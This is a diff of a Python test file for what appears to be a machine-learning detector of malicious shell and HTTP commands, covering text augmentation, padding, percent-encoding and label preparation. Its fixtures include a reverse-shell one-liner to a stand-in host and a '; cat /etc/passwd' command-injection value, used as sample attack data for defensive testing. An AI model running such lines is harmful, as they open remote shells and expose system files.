@@ -8,9 +8,9 @@ import pytest
 
 from analyzers.bert.canonical import SOURCES, canonical
 from analyzers.learning import grammar
-from analyzers.learning.augment import JOINERS, UNSEEN_JOINERS, Augmenter, pad, percent_encode, wrap
+from analyzers.learning.augment import JOINERS, UNSEEN_JOINERS, Augmenter, pad, pad_words, percent_encode, wrap
 from analyzers.learning.grammar import GrammarError, Writer, templates
-from analyzers.learning.texts import LABELS, benign_pool, epoch, generated, part_of, prepare
+from analyzers.learning.texts import ALIKE, LABELS, UNSAID, Text, benign_pool, epoch, generated, part_of, prepare
 
 
 def test_every_template_can_be_written_out():
@@ -66,9 +66,11 @@ def test_a_changed_text_still_holds_what_it_was():
     benign = ["ls -la", "echo hello"]
     attack = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
     assert attack in wrap(attack, rng, benign, JOINERS["shell"], (2, 2))
-    padded = pad(attack, rng, benign, "; ", 64)
-    assert attack in padded
-    assert len(padded) == len(attack) + 2 * (64 + 2)
+    padded = pad(attack, rng, benign, ("; ", " && "), (64, 300))
+    assert padded[64 + 2 :].startswith(attack + " && ")
+    assert len(padded) == len(attack) + 64 + 2 + 4 + 300
+    assert pad(attack, rng, benign, ("; ", "; "), (0, 8)).startswith(attack + "; ")
+    assert pad_words(attack, rng, benign).count(attack) == 1
     encoded = percent_encode(percent_encode(attack, rng, 0.5), rng, 0.5)
     assert attack not in encoded
     assert canonical(encoded, "http").text == attack
@@ -91,6 +93,20 @@ def test_benign_and_malicious_texts_are_changed_alike():
         )
     shares = [changed[label] / count[label] for label in (True, False)]
     assert shares[0] == pytest.approx(shares[1], abs=0.1)
+
+
+def test_of_a_text_from_nobody_knows_where_the_kind_of_command_is_not_said():
+    """Else a command of no known source is half of each kind, and none of them is probable."""
+    place = {label: LABELS.index(label) for label in LABELS}
+    injected = Text("; cat /etc/passwd", "http", ("cmdi",), "f")
+    told, untold = prepare(injected).targets, prepare(injected, "unknown").targets
+    assert set(told) == {0, 1}
+    assert [untold[place[label]] for label in ALIKE] == [1, UNSAID, UNSAID]
+    assert untold[place["sqli"]] == 0
+    assert prepare(injected, "unknown").malicious
+    benign = prepare(Text("ls", "shell", (), "f"), "unknown")
+    assert set(benign.targets) == {0}
+    assert not benign.malicious
 
 
 def test_an_epoch_tells_the_source_of_most_texts_only():
